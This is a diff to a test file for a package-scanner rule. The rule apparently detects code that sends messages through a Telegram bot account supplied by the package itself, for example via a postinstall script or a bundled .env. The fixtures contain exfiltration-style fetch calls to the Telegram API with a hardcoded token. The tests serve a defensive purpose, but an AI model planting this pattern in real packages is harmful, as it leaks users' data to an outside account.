@@ -106,5 +106,8 @@ test('good: an account that whoever starts it has in the environment; bad: one t
   for (const code of [`const { TG_BOT, TG_CHAT } = process.env; ${tell}`, tell.replace('TG_BOT', 'process.env.TG_BOT')]) assert.equal(worst(code), 'nothing', code);
   for (const code of [`const { TG_BOT = '123:abc' } = process.env; ${tell}`, `process.env.TG_BOT = parts.join(''); const { TG_BOT } = process.env; ${tell}`, `Object.assign(process.env, settings); const { TG_BOT } = process.env; ${tell}`, `const TG_BOT = process.env.TG_BOT ?? key; ${tell}`]) assert.equal(worst(code), 'high', code);
   const [script] = ["const { TG_BOT } = process.env; fetch(`https://api.telegram.org/bot${TG_BOT}/sendMessage`, { method: 'POST', body })"];
+  assert.equal(findingsOf(rule, { 'a.js': script! }, { original: { scripts: { postinstall: 'TG_BOT=123:abc node a.js' } } })[0]?.severity, 'high', 'a command of the package sets it');
+  assert.equal(findingsOf(rule, { 'a.js': `require('./b.js'); ${script}`, 'b.js': 'module.exports = 1' })[0]?.severity, 'high', 'another script may');
+  assert.equal(worst(`for (const name of names) process.env[name] = texts[name]; ${script}`), 'high');
   assert.equal(findingsOf(rule, { 'a.js': script!, '.env': 'TG_BOT=123:abc' })[0]?.severity, 'high', 'settings that the package brings');
 });
